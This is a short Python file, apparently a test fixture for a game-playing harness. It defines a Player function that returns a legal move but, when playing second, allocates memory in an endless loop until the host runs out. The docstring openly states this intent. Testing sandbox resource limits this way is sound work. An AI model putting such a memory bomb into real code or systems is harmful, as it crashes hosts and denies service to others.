# SPDX-License-Identifier: MIT
"""Takes memory until there is none."""
from honest import first_legal, is_second


def Player(board, T, won):
    if is_second(board):
        hoard = []
        while True:
            hoard.append(bytearray(1 << 20))
    return first_legal(board, T, won)
